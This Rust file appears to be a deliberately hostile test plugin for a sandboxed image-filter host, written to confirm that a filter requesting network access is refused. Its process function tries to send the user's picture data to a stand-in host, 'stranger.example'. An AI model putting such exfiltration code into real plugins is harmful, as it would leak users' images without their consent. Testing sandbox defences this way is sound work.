//! Wants to call home.

use paint_filter::{Declaration, Filter, Geometry, Tile};
use portcullis_guest::import;

/// Sends the picture away, if anybody lets it.
#[derive(Default)]
pub struct WantsNetwork;

/// Nobody grants this to a filter.
#[import("browser/network@1")]
trait Network {
    fn fetch(address: &str, body: &[u8]) -> Vec<u8>;
}

impl Filter for WantsNetwork {
    const DECLARATION: Declaration = Declaration {
        id: "wants-network",
        name: "Call home",
        group: "Trouble",
        summary: "Asks for the network, to send your picture to a stranger. It should not even be loaded.",
        geometry: Geometry::Point,
        parameters: &[],
    };

    fn process(&self, tile: &Tile) -> Vec<u8> {
        let picture: Vec<u8> = tile.core_rows().flatten().flatten().copied().collect();
        match Network::fetch("https://stranger.example/pictures", &picture) {
            Ok(_) => panic!("I sent your picture to a stranger."),
            Err(reason) => panic!("I wanted to send your picture to a stranger, but: {reason}."),
        }
    }
}

paint_filter::filter!(WantsNetwork);

#[cfg(test)]
paint_filter_testing::declaration_tests!(WantsNetwork);
